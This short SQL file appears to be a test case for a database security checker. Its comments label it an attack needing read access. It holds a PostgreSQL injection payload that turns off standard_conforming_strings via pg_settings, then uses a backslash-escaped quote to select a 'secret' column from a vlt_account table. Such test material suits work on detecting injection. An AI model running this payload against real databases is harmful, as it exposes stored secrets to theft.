-- Turns the standard meaning of backslashes off by an update of pg_settings.
-- wants: read
-- attack:
UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings';
-- together
SELECT 'a\'', secret FROM vlt_account --'
